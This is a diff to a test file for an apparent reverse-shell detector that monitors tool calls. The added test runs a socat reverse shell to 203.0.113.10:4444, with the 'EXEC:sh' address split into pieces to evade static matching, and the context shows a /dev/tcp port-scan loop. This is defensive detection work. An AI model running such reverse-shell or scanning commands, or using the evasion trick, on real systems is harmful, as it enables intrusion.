@@ -267,6 +267,20 @@ test('a renamed copy of bash is known by its bytes: its /dev/tcp connect is a re
   assert.ok(!alerts.some((a) => a.payload.rule === 'system_binary_copy_exec' && /\/bin\/bash/.test(String(a.payload.message)) && !/\.kw/.test(String(a.payload.message))));
 });
 
+test('socat running a shell on half of a dual address (STDIN!!EXEC:sh) is seen by the process layer as a reverse shell', async () => {
+  // (a review, session 24: the rule matched EXEC: only at the start of an address; `A!!EXEC:sh` passed)
+  const { r, alerts } = await oneCall(`import subprocess
+half = "EX" + "EC:sh"  # built at run time, so only the process layer can see the address
+p = subprocess.run(["so" + "cat", "tcp:203.0.113.10:4444,connect-timeout=2", "STDIN!!" + half], capture_output=True)
+print("done", p.returncode)`, { tool: 'python' });
+  assert.match(r.stdout, /^done /, r.stderr);
+  const shell = alerts.find((a) => a.payload.rule === 'reverse_shell_socat_exec');
+  assert.ok(shell, JSON.stringify(alerts.map((a) => [a.payload.rule, a.payload.message])));
+  assert.equal(shell.tool_call, 'call-1');
+  assert.equal(shell.payload.category, 'reverse_shell');
+  assert.equal(await fx.far.accepted('203.0.113.10', 22), 0);
+});
+
 test('a shell scanning with /dev/tcp is one internal scan alert; its connect to an outside host is still a reverse shell', async () => {
   const scan = 'for h in 10.0.0.5 10.0.0.6 10.0.0.7; do for p in 22 80; do (echo > /dev/tcp/$h/$p) 2>/dev/null; done; done';
   const { alerts } = await oneCall(`${scan}; echo scanned`);
